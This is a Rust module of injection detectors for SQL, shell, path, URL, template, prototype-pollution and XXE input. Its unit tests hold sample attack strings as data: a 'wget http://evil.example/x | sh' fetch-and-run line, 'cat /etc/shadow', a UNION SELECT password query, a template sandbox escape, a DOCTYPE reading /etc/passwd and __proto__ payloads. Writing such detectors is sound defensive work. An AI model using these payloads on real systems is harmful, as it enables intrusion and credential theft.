//! Grammar-aware detectors: each reads a value the way its sink would (a SQL parser, a shell,
//! a path resolver, a URL client, a template engine) and reports an injection only when the
//! value changes what that sink does. They run on the value as sent and as decoded
//! (`normalize`), and each is linear in the value's length.

pub mod net;
pub mod normalize;
pub mod path;
pub mod shell;
pub mod sql;
pub mod template;
pub mod triggers;

use serde::{Deserialize, Serialize};

/// How hard a detector looks: `Generic` for any field (prose must pass), `Sink` for a field
/// the static analysis saw reach that kind of sink (any change of structure is blocked).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Strictness {
    #[default]
    Generic,
    Sink,
}

/// The sink classes a field is known to reach, from `fnguard shield policy`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct Sinks {
    pub sql: bool,
    pub shell: bool,
    pub path: bool,
    pub url: bool,
    pub code: bool,
}

impl Sinks {
    fn strictness(flag: bool) -> Strictness {
        if flag {
            Strictness::Sink
        } else {
            Strictness::Generic
        }
    }
}

#[derive(Debug, Clone, PartialEq)]
pub struct Found {
    pub rule: &'static str,
    pub class: &'static str,
    pub description: &'static str,
    pub excerpt: String,
}

impl Found {
    pub fn new(
        rule: &'static str,
        class: &'static str,
        description: &'static str,
        value: &str,
        at: usize,
    ) -> Found {
        let mut start = at.min(value.len());
        while !value.is_char_boundary(start) {
            start -= 1;
        }
        Found {
            rule,
            class,
            description,
            excerpt: value[start..].chars().take(120).collect(),
        }
    }
}

/// `hay.contains(needle)` for a needle of a few bytes. `str::contains` builds a searcher on
/// each call (about 200 instructions, more than the rest of a short value's look at some
/// detectors): a short value is searched for the needle's first byte and compared in place; a
/// longer one as before, the searcher's set-up paid for by its length.
pub(crate) fn contains_short(hay: &str, needle: &str) -> bool {
    if hay.len() >= SHORT_HAY {
        return hay.contains(needle);
    }
    let (hay, needle) = (hay.as_bytes(), needle.as_bytes());
    let Some((&first, rest)) = needle.split_first() else {
        return true;
    };
    memchr::memchr_iter(first, hay).any(|i| hay.get(i + 1..).is_some_and(|h| h.starts_with(rest)))
}

/// Values shorter than this are searched in place by `contains_short`. Longer, a value dense
/// with the needle's first byte (`${::-` over and over) stops the search at each: 100-byte
/// fields of it took 13 % longer than with `str::contains`, with this at 256.
const SHORT_HAY: usize = 32;

/// `s.contains(char::is_whitespace)`, a byte at a time while the text is ASCII (most values
/// are, and decoding each character cost more than the rest of a short value's URL check).
pub(crate) fn has_whitespace(s: &str) -> bool {
    for (i, &c) in s.as_bytes().iter().enumerate() {
        if c >= 0x80 {
            return s
                .get(i..)
                .is_some_and(|rest| rest.contains(char::is_whitespace));
        }
        if matches!(c, b'\t' | b'\n' | 0x0b | 0x0c | b'\r' | b' ') {
            return true;
        }
    }
    false
}

/// Which kinds of bytes a value holds, found in one pass, so that each detector and decoder
/// runs only on values that have what it looks for.
#[derive(Debug, Clone, Copy, Default)]
pub struct Census(u32);

impl Census {
    pub const ENCODED: u32 = 1; // % & \ (URL, HTML and JS escapes)
    pub const NON_ASCII: u32 = 1 << 1;
    pub const QUOTE: u32 = 1 << 2;
    pub const SHELL: u32 = 1 << 3; // ; | & newline ` $
    pub const PATH: u32 = 1 << 4; // . / \ :
    pub const TEMPLATE: u32 = 1 << 5; // { % # [ <
    pub const UNDERSCORE: u32 = 1 << 6;
    pub const NOT_BASE64: u32 = 1 << 7;
    pub const PAREN: u32 = 1 << 8;
    pub const COLON: u32 = 1 << 9;
    pub const SLASH: u32 = 1 << 10; // / \ (absolute paths)

    const TABLE: [u32; 256] = {
        let mut t = [0u32; 256];
        let mut c = 0;
        while c < 256 {
            let b = c as u8;
            let mut bits = 0;
            if !(b.is_ascii_alphanumeric()
                || b == b'+'
                || b == b'/'
                || b == b'='
                || b == b'-'
                || b == b'_')
            {
                bits |= Self::NOT_BASE64;
            }
            if b >= 0x80 {
                bits |= Self::NON_ASCII;
            }
            bits |= match b {
                b'%' => Self::ENCODED | Self::TEMPLATE,
                b'&' => Self::ENCODED | Self::SHELL,
                b'\\' => Self::ENCODED | Self::PATH | Self::SLASH,
                b'\'' | b'"' => Self::QUOTE,
                b';' | b'|' | b'\n' | b'`' | b'$' => Self::SHELL,
                b'.' => Self::PATH,
                b'/' => Self::PATH | Self::SLASH,
                b':' => Self::PATH | Self::COLON,
                b'{' | b'#' | b'[' | b'<' => Self::TEMPLATE,
                b'_' => Self::UNDERSCORE,
                b'(' => Self::PAREN,
                _ => 0,
            };
            t[c] = bits;
            c += 1;
        }
        t
    };

    pub fn of(v: &str) -> Census {
        let mut bits = 0;
        for &b in v.as_bytes() {
            bits |= Self::TABLE[b as usize];
        }
        Census(bits)
    }

    pub fn has(self, bits: u32) -> bool {
        self.0 & bits != 0
    }
}

/// Every detector's finding for one value (at most one per detector). `in_header`: the value
/// is an HTTP header, where hosts and origins of local development (`Host: 127.0.0.1:3000`)
/// are normal.
pub fn value(v: &str, sinks: Sinks, in_header: bool) -> Vec<Found> {
    let triggers = triggers::Scanner::detectors_only().scan(v.as_bytes());
    value_with(
        v,
        Census::of(v),
        &triggers,
        sinks,
        in_header,
        &mut Reported::default(),
    )
}

/// How many judgments a detector may make on one value: a few for any value, and one more
/// for every so many bytes of it (`Pace`). A judgment is what a detector does at each place a
/// value may change its sink's structure (a shell operator followed by a command word, a SQL
/// keyword's window of tokens); each reads a bounded number of bytes, so the allowance bounds
/// a detector's work by the value's length, whatever the content. Text people and programs
/// write stays below it (the corpus and held-out tests check that no value of theirs, attack or
/// benign, reaches it); a value made of operators or keywords from end to end reaches it, and
/// is then judged at its start as far as the allowance goes and at its last `TAIL_BYTES`, and
/// reported as judged in part.
#[derive(Debug, Clone, Copy)]
pub struct Allowance {
    left: usize,
    ran_out: bool,
}

/// A detector's allowance: `free` judgments for any value, one more per `bytes` of it.
#[derive(Debug, Clone, Copy)]
pub struct Pace {
    pub free: usize,
    pub bytes: usize,
}

/// Shell judgments: a word after an operator that is read in full (a command name, a quoted or
/// braced word), not one dismissed by its first bytes. A script with a command on each line
/// and one chained uses one per chained command (a plain command after a newline in text is
/// told by its name); a value made of `;eval` from end to end, one per 5 bytes.
pub const SHELL_PACE: Pace = Pace {
    free: 16,
    bytes: 16,
};
/// SQL signal windows (a dozen tokens around a probe word or a `;` before a statement word):
/// each costs about twice a shell judgment, and such words are rare in text.
pub const SQL_PACE: Pace = Pace { free: 8, bytes: 64 };
/// Template expressions judged (an opener paired with its closer, `${...}`, `{{...}}`): a
/// configuration file or template has one every few dozen bytes; a value of `${x}` from end to
/// end, one per 4 bytes.
pub const TEMPLATE_PACE: Pace = Pace {
    free: 16,
    bytes: 16,
};
/// How much of a long value's end is judged again once its allowance ran out, with an
/// allowance of its own (`TAIL_JUDGMENTS`): padding before a payload is the usual way to
/// push it past a limit. Values up to `TAIL_FROM` bytes are judged only as far as their
/// allowance went.
pub const TAIL_BYTES: usize = 256;
const TAIL_JUDGMENTS: usize = 16 + TAIL_BYTES / 2;
const TAIL_FROM: usize = 16 * TAIL_BYTES;

/// What `Allowance::left` counts: a judgment is this many glances (`Allowance::glance`).
const GLANCES_PER_JUDGMENT: usize = 2;

impl Allowance {
    pub fn for_len(len: usize, pace: Pace) -> Allowance {
        Allowance {
            left: (pace.free + len / pace.bytes.max(1)).saturating_mul(GLANCES_PER_JUDGMENT),
            ran_out: false,
        }
    }

    /// For the tail of a value whose allowance ran out (`TAIL_BYTES`).
    fn tail() -> Allowance {
        Allowance {
            left: TAIL_JUDGMENTS * GLANCES_PER_JUDGMENT,
            ran_out: false,
        }
    }

    /// No limit: the detectors' own entry points, and the tests that compare readings.
    pub fn unlimited() -> Allowance {
        Allowance {
            left: usize::MAX,
            ran_out: false,
        }
    }

    /// One judgment; `false` once the allowance is spent, and the detector stops there.
    #[inline]
    pub fn take(&mut self) -> bool {
        self.spend(GLANCES_PER_JUDGMENT)
    }

    /// Half a judgment: a dismissal that reads a few bytes past the operator's own
    /// plain word (a short quoted word). Free, a value of such words from end to end would be
    /// read in full by each of a detector's readings.
    #[inline]
    pub fn glance(&mut self) -> bool {
        self.spend(1)
    }

    fn spend(&mut self, glances: usize) -> bool {
        if self.left < glances {
            self.ran_out = true;
            return false;
        }
        self.left -= glances;
        true
    }

    pub fn ran_out(&self) -> bool {
        self.ran_out
    }
}

/// The detectors that have already reported a field. A field is reported at most once per
/// detector, so a detector that has found something in one decoded form or chunk of a value
/// does not read the others: on a value made of attacks, each detector stops at its first.
#[derive(Debug, Clone, Copy, Default)]
pub struct Reported(u8);

impl Reported {
    const SQL: u8 = 1;
    const SHELL: u8 = 1 << 1;
    const PATH: u8 = 1 << 2;
    const NET: u8 = 1 << 3;
    const TEMPLATE: u8 = 1 << 4;
    const PROTOTYPE: u8 = 1 << 5;
    const DTD: u8 = 1 << 6;
    /// A detector's allowance ran out on the field (`Allowance`).
    const IN_PART: u8 = 1 << 7;

    fn pending(self, detector: u8) -> bool {
        self.0 & detector == 0
    }

    /// Whether a detector's allowance ran out on some form or chunk of the field: it was
    /// judged at its start and end, not throughout.
    pub fn judged_in_part(self) -> bool {
        self.0 & Self::IN_PART != 0
    }

    fn run(&mut self, detector: u8, out: &mut Vec<Found>, found: impl FnOnce() -> Option<Found>) {
        if self.pending(detector) {
            if let Some(f) = found() {
                self.0 |= detector;
                out.push(f);
            }
        }
    }
}

/// `triggers`: what one `triggers::Scanner` pass found in `v`.
pub fn value_with(
    v: &str,
    census: Census,
    triggers: &triggers::Triggers,
    sinks: Sinks,
    in_header: bool,
    reported: &mut Reported,
) -> Vec<Found> {
    let mut out = Vec::new();
    let mut in_part = false;
    // A value of base64 characters only has no quote, space or parenthesis: no SQL.
    if census.has(Census::NOT_BASE64) || sinks.sql {
        reported.run(Reported::SQL, &mut out, || {
            let strictness = Sinks::strictness(sinks.sql);
            within_allowance(v, SQL_PACE, &mut in_part, |text, from, allowance| {
                let statement_word = triggers.statement_word;
                if from == 0 {
                    return sql::detect_within(
                        text,
                        strictness,
                        &triggers.sql_words,
                        statement_word,
                        allowance,
                    );
                }
                let words: Vec<usize> = triggers
                    .sql_words
                    .iter()
                    .filter_map(|&w| w.checked_sub(from))
                    .collect();
                sql::detect_within(text, strictness, &words, statement_word, allowance)
            })
        });
    }
    if census.has(Census::SHELL | Census::PAREN) {
        reported.run(Reported::SHELL, &mut out, || {
            let strictness = Sinks::strictness(sinks.shell);
            within_allowance(v, SHELL_PACE, &mut in_part, |text, _, allowance| {
                shell::detect_within(text, strictness, allowance)
            })
        });
    }
    if census.has(Census::SLASH | Census::COLON) || census.has(Census::PATH) && path::has_dots(v) {
        reported.run(Reported::PATH, &mut out, || {
            path::detect_with(v, Sinks::strictness(sinks.path), &triggers.system_files)
        });
    }
    if census.has(Census::PATH) {
        reported.run(Reported::NET, &mut out, || {
            net::detect(v, Sinks::strictness(sinks.url), in_header)
        });
    }
    if census.has(Census::TEMPLATE | Census::SHELL) {
        reported.run(Reported::TEMPLATE, &mut out, || {
            let strictness = Sinks::strictness(sinks.code);
            within_allowance(v, TEMPLATE_PACE, &mut in_part, |text, _, allowance| {
                template::detect_within(text, strictness, allowance)
            })
        });
    }
    if census.has(Census::UNDERSCORE | Census::TEMPLATE | Census::PATH) {
        reported.run(Reported::PROTOTYPE, &mut out, || prototype_text(v));
    }
    if census.has(Census::TEMPLATE) {
        reported.run(Reported::DTD, &mut out, || external_dtd(v));
    }
    if in_part {
        reported.0 |= Reported::IN_PART;
    }
    out
}

/// `detect(text, from, allowance)` on `v` (from 0) with the allowance `pace` gives it; when
/// that runs out with nothing found, again on the last `TAIL_BYTES` of a value longer than
/// `TAIL_FROM` (from where they start), with an allowance of their own. `in_part` is set when
/// the allowance ran out.
fn within_allowance(
    v: &str,
    pace: Pace,
    in_part: &mut bool,
    detect: impl Fn(&str, usize, &mut Allowance) -> Option<Found>,
) -> Option<Found> {
    let mut allowance = Allowance::for_len(v.len(), pace);
    if let Some(found) = detect(v, 0, &mut allowance) {
        return Some(found);
    }
    if !allowance.ran_out() {
        return None;
    }
    *in_part = true;
    if v.len() <= TAIL_FROM {
        return None;
    }
    let mut from = v.len() - TAIL_BYTES;
    while !v.is_char_boundary(from) {
        from += 1;
    }
    detect(&v[from..], from, &mut Allowance::tail())
}

/// The lengths of a list's names by their first byte (`a`-`z` in any case, `_`): most words are
/// told apart from a list by one lookup, before any is compared with them.
#[derive(Debug, Clone, Copy)]
pub(crate) struct NameLengths([u64; 27]);

impl NameLengths {
    pub(crate) const NONE: NameLengths = NameLengths([0; 27]);

    /// With `name` added (names of 64 bytes or more are not: no list has one).
    pub(crate) const fn with(mut self, name: &[u8]) -> NameLengths {
        if let (Some(k), true) = (Self::index(name), name.len() < 64) {
            self.0[k] |= 1 << name.len();
        }
        self
    }

    /// Whether a name of the list may be `word`: one starts with its first byte and is as long.
    pub(crate) fn may_hold(&self, word: &[u8]) -> bool {
        Self::index(word).is_some_and(|k| word.len() < 64 && self.0[k] >> word.len() & 1 != 0)
    }

    const fn index(word: &[u8]) -> Option<usize> {
        match word.first() {
            Some(&c @ b'a'..=b'z') => Some((c - b'a') as usize),
            Some(&c @ b'A'..=b'Z') => Some((c - b'A') as usize),
            Some(b'_') => Some(26),
            _ => None,
        }
    }
}

/// Every word a detector starts a judgment from (SQL probe words, system files, command,
/// template and scheme names), for generators of adversarial input: a worst case is sought
/// over what the detectors react to, and a word added to a detector joins the search.
pub fn vocabulary() -> Vec<&'static str> {
    let mut words: Vec<&'static str> = Vec::new();
    words.extend(triggers::SQL_WORDS);
    words.extend(path::SYSTEM_FILES);
    words.extend(shell::command_names());
    words.extend(template::DANGEROUS_NAMES);
    words.extend(net::DANGEROUS_SCHEMES);
    words
}

/// Object keys that reach an object's prototype when merged (`__proto__`,
/// `constructor.prototype`), as JSON keys, query keys (`a[__proto__][x]`) or dotted paths.
pub fn key(k: &str, path: &str) -> Option<Found> {
    // Every key that reaches the prototype names it (`__proto__`, `prototype`): most keys
    // have no `p` at all and are told apart without a lowercase copy.
    memchr::memchr2(b'p', b'P', k.as_bytes())?;
    let lower = k.to_ascii_lowercase();
    let proto = lower.contains("__proto__")
        || lower.contains("constructor[prototype]")
        || lower.contains("constructor.prototype")
        || lower == "prototype" && path.ends_with(".constructor.prototype");
    proto.then(|| {
        Found::new(
            "prototype-pollution",
            "prototype-pollution",
            "a key that reaches the object prototype when merged",
            k,
            0,
        )
    })
}

/// A DOCTYPE whose external subset is fetched from a URL the document chooses
/// (`<!DOCTYPE x SYSTEM "http://...">`, `PUBLIC "id" "file:///..."`): the parser reads it,
/// an XXE and SSRF channel even without an internal subset. The W3C's own DTDs (XHTML, SVG)
/// are the names of standard documents, not fetches an attacker steers.
fn external_dtd(v: &str) -> Option<Found> {
    let b = v.as_bytes();
    static OPEN: std::sync::LazyLock<memchr::memmem::Finder<'static>> =
        std::sync::LazyLock::new(|| memchr::memmem::Finder::new(b"<!"));
    let at = OPEN
        .find_iter(b)
        .find(|&i| b.len() >= i + 9 && b[i + 2..i + 9].eq_ignore_ascii_case(b"DOCTYPE"))?;
    let rest = &v[at + 9..];
    let decl = &rest[..rest.find('>').unwrap_or(rest.len()).min(1024)];
    let upper = decl.to_ascii_uppercase();
    if !upper.contains("SYSTEM") && !upper.contains("PUBLIC") {
        return None;
    }
    // The last quoted string of the external id is the system identifier (the URI).
    let quoted: Vec<&str> = decl.split(['"', '\'']).skip(1).step_by(2).collect();
    let uri = quoted.last()?.trim().to_ascii_lowercase();
    let fetched = [
        "http://",
        "https://",
        "ftp://",
        "file:",
        "jar:",
        "netdoc:",
        "gopher:",
        "php://",
        "expect://",
        "data:",
    ]
    .iter()
    .any(|s| uri.starts_with(s));
    let standard = uri.starts_with("http://www.w3.org/") || uri.starts_with("https://www.w3.org/");
    (fetched && !standard).then(|| {
        Found::new(
            "xml-external-dtd",
            "xxe",
            "a DOCTYPE that makes the XML parser fetch an external DTD",
            v,
            at,
        )
    })
}

/// `"__proto__":` inside a string that the handler may parse as JSON, and `__proto__[x]=`,
/// `constructor[prototype][x]` in text a query-string or path parser (`qs`, `lodash.set`)
/// may read.
fn prototype_text(v: &str) -> Option<Found> {
    // JavaScript property names are case-sensitive: only these spellings reach the prototype.
    // Searchers built once: this runs for most values, and building one cost as much as
    // searching a kilobyte.
    static CONSTRUCTOR: std::sync::LazyLock<memchr::memmem::Finder<'static>> =
        std::sync::LazyLock::new(|| memchr::memmem::Finder::new(b"constructor"));
    static PROTO: std::sync::LazyLock<memchr::memmem::Finder<'static>> =
        std::sync::LazyLock::new(|| memchr::memmem::Finder::new(b"__proto__"));
    let b = v.as_bytes();
    let through_prototype = |at: usize| {
        let rest = &b[at + "constructor".len()..];
        rest.starts_with(b"[prototype]") || rest.starts_with(b".prototype.")
    };
    // The first of either spelling (the excerpt starts there).
    if let Some(at) = CONSTRUCTOR.find_iter(b).find(|&at| through_prototype(at)) {
        return Some(Found::new(
            "prototype-pollution",
            "prototype-pollution",
            "a path through the object prototype (query-string or property-path syntax)",
            v,
            at.saturating_sub(8),
        ));
    }
    let at = PROTO.find(b)?;
    let after = v[at + 9..].trim_start_matches(['"', '\'', ' ']);
    let before = v[..at].trim_end_matches(['"', '\'', ' ']);
    let path_syntax = v[at + 9..].starts_with(['[', '.', ']']);
    (path_syntax || after.starts_with(':') && (before.ends_with('{') || before.ends_with(',')))
        .then(|| {
            Found::new(
                "prototype-pollution",
                "prototype-pollution",
                "a JSON object with a __proto__ key",
                v,
                at.saturating_sub(8),
            )
        })
}

#[cfg(test)]
#[test]
fn whitespace_is_found_as_by_characters() {
    const PIECES: &[&str] = &[
        "a", " ", "\t", "\n", "\r", "\x0b", "\x0c", "\x1c", "\u{85}", "\u{a0}", "\u{3000}", "é",
        "\u{2028}", "x",
    ];
    let found = agrees_with_reference(
        PIECES,
        31,
        20_000,
        60,
        has_whitespace,
        |s: &str| s.contains(char::is_whitespace),
        |b| *b,
    );
    assert!((1_000..19_000).contains(&found), "{found}");
}

/// For tests: the next number of a linear congruential generator (the same sequence on every
/// run); its high bits are the random ones.
#[cfg(test)]
pub(crate) fn seeded_step(x: u64) -> u64 {
    x.wrapping_mul(6364136223846793005)
        .wrapping_add(1442695040888963407)
}

/// For tests: `count` strings, each of up to `2^(64 - shift) - 1` of `pieces` drawn in a seeded
/// order (a linear congruential generator: the same strings on every run).
#[cfg(test)]
pub(crate) fn pieces_joined(
    pieces: &'static [&'static str],
    seed: u64,
    count: usize,
    shift: u32,
) -> impl Iterator<Item = String> {
    let step = seeded_step;
    let mut x = seed;
    (0..count).map(move |_| {
        let mut v = String::new();
        x = step(x);
        for _ in 0..(x >> shift) {
            x = step(x);
            v.push_str(pieces[((x >> 33) % pieces.len() as u64) as usize]);
        }
        v
    })
}

/// For tests: checks `new` against `reference` on `count` strings of `pieces_joined`, and returns
/// on how many the reference's result was `reached` (so a test can require that its strings
/// reach the work, not only the early exits).
#[cfg(test)]
pub(crate) fn agrees_with_reference<T: PartialEq + std::fmt::Debug>(
    pieces: &'static [&'static str],
    seed: u64,
    count: usize,
    shift: u32,
    new: impl Fn(&str) -> T,
    reference: impl Fn(&str) -> T,
    reached: impl Fn(&T) -> bool,
) -> usize {
    let mut n = 0;
    for v in pieces_joined(pieces, seed, count, shift) {
        let expected = reference(&v);
        n += usize::from(reached(&expected));
        assert_eq!(new(&v), expected, "{v:?}");
    }
    n
}

#[cfg(test)]
mod tests {
    #[test]
    fn contains_short_finds_what_contains_finds() {
        const PIECES: &[&str] = &[
            "$", "{", "${", ":", ":-", "l", "lower:", ".", "..", "x", "é", "/",
        ];
        let needles = ["${", ":-", "lower:", "..", "://", "x", ""];
        let mut found = 0;
        for v in super::pieces_joined(PIECES, 61, 6000, 56) {
            for n in needles {
                let expected = v.contains(n);
                found += usize::from(expected);
                assert_eq!(super::contains_short(&v, n), expected, "{v:?} {n:?}");
            }
        }
        assert!(found > 10_000, "{found}");
    }

    use super::*;

    /// Both prototype paths are found from one search for `constructor`, as a search for each
    /// spelling finds them, with the excerpt at the first.
    #[test]
    fn prototype_paths_are_found_as_by_a_search_for_each() {
        let reference = |v: &str| {
            ["constructor[prototype]", "constructor.prototype."]
                .iter()
                .filter_map(|m| v.find(m))
                .min()
                .map(|at| Found::new("", "", "", v, at.saturating_sub(8)).excerpt)
        };
        const PIECES: &[&str] = &[
            "constructor",
            "[prototype]",
            ".prototype.",
            ".prototype",
            "[",
            "]",
            ".",
            "construct",
            "or",
            "x",
            "prototype",
            " ",
        ];
        let reached = agrees_with_reference(
            PIECES,
            17,
            20_000,
            59,
            |v| prototype_text(v).map(|f| f.excerpt),
            reference,
            Option::is_some,
        );
        assert!(reached > 2_000, "{reached}");
    }

    fn judged(v: &str) -> (Vec<&'static str>, bool) {
        let triggers = triggers::Scanner::detectors_only().scan(v.as_bytes());
        let mut reported = Reported::default();
        let found = value_with(
            v,
            Census::of(v),
            &triggers,
            Sinks::default(),
            false,
            &mut reported,
        );
        (
            found.iter().map(|f| f.rule).collect(),
            reported.judged_in_part(),
        )
    }

    #[test]
    fn a_value_dense_with_operators_is_judged_at_its_start_and_end_and_reported() {
        // `;cat` is a command every four bytes: 3,000 of them run out of 16 + 12,000 / 8.
        let dense = ";cat".repeat(3_000);
        assert_eq!(judged(&dense), (vec![], true));
        // A command at the start is within the allowance, one at the end in the tail.
        assert_eq!(
            judged(&format!("x; cat /etc/shadow{dense}")).0,
            ["shell-grammar", "path-canonical"]
        );
        let end = judged(&format!("{dense}\n; wget http://evil.example/x | sh"));
        assert_eq!(end, (vec!["shell-grammar"], true));
        // In the middle, past the allowance and before the tail: not judged, but reported.
        let middle = format!("{dense}{dense}; wget http://evil.example/x | sh{dense}");
        assert_eq!(judged(&middle), (vec![], true));
        // SQL windows: a keyword every few bytes.
        let keywords = "'union".repeat(3_000);
        assert!(judged(&keywords).1);
        let tail = judged(&format!(
            "{keywords} x' UNION SELECT password FROM users --"
        ));
        assert_eq!(tail, (vec!["sql-grammar"], true));
    }

    #[test]
    fn a_value_dense_with_template_expressions_is_judged_in_part() {
        let dense = "${x}".repeat(3_000);
        assert_eq!(judged(&dense), (vec![], true));
        let end = judged(&format!(
            "{dense} {{{{ ''.__class__.__mro__[1].__subclasses__() }}}}"
        ));
        assert_eq!(end, (vec!["template-expression"], true));
        // A template has far fewer, however long.
        let page = "Hello {{ name }}, order {{ order.id }} ships on {{ date }}.\n".repeat(5_000);
        assert_eq!(judged(&page), (vec![], false));
    }

    #[test]
    fn the_allowance_grows_with_the_value() {
        // Prose with three operators every 38 bytes, and a list of words one per line, never
        // come near it, however long: words that name no command are dismissed at no cost.
        let prose = "we shipped it; then the team & I met\n".repeat(20_000);
        assert_eq!(judged(&prose), (vec![], false));
        let words = "apple\nbanana\ncherry\n".repeat(20_000);
        assert_eq!(judged(&words), (vec![], false));
        // A script, a command on each line and one chained, is within it.
        let script = "cd /srv/app && make build\nls -la /srv/app/dist\n".repeat(10_000);
        assert_eq!(judged(&script), (vec![], false));
        // Source with a string on each line: each is glanced at, half a judgment.
        let strings = "        \"e\",\n".repeat(20_000);
        assert_eq!(judged(&strings), (vec![], false));
        // Short quoted words after operators from end to end are not read in full for free.
        let quoted = ";\"a\"".repeat(20_000);
        assert_eq!(judged(&quoted), (vec![], true));
        let mut a = Allowance::for_len(8 * 100, Pace { free: 16, bytes: 8 });
        assert!((0..16 + 100).all(|_| a.take()));
        assert!(!a.ran_out());
        assert!(!a.take());
        assert!(a.ran_out());
        let mut a = Allowance::for_len(8 * 100, Pace { free: 16, bytes: 8 });
        assert!((0..2 * (16 + 100)).all(|_| a.glance()));
        assert!(!a.glance());
    }

    #[test]
    fn external_dtds_are_xxe_except_the_w3c_ones() {
        let hit = |v: &str| !value(v, Sinks::default(), false).is_empty();
        assert!(hit("<?xml version=\"1.0\"?><!DOCTYPE invoice PUBLIC \"-//ACME//Invoice//EN\" \"http://198.51.100.7/invoice.dtd\"><invoice/>"));
        assert!(hit("<!doctype r SYSTEM 'file:///etc/passwd'><r/>"));
        assert!(!hit("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html/>"));
        assert!(!hit("<!DOCTYPE html><html><body>hi</body></html>"));
    }

    #[test]
    fn prototype_keys() {
        assert!(key("__proto__", "body.__proto__").is_some());
        assert!(key(
            "a[__proto__][admin]",
            "queryStringParameters.a[__proto__][admin]"
        )
        .is_some());
        assert!(key("prototype", "body.constructor.prototype").is_some());
        assert!(key("prototype", "body.docs.prototype").is_none());
        assert!(key("proto", "body.proto").is_none());
        assert!(!value(
            "{\"__proto__\": {\"isAdmin\": true}}",
            Sinks::default(),
            false
        )
        .is_empty());
        assert!(value(
            "the __proto__ property is deprecated",
            Sinks::default(),
            false
        )
        .is_empty());
    }
}
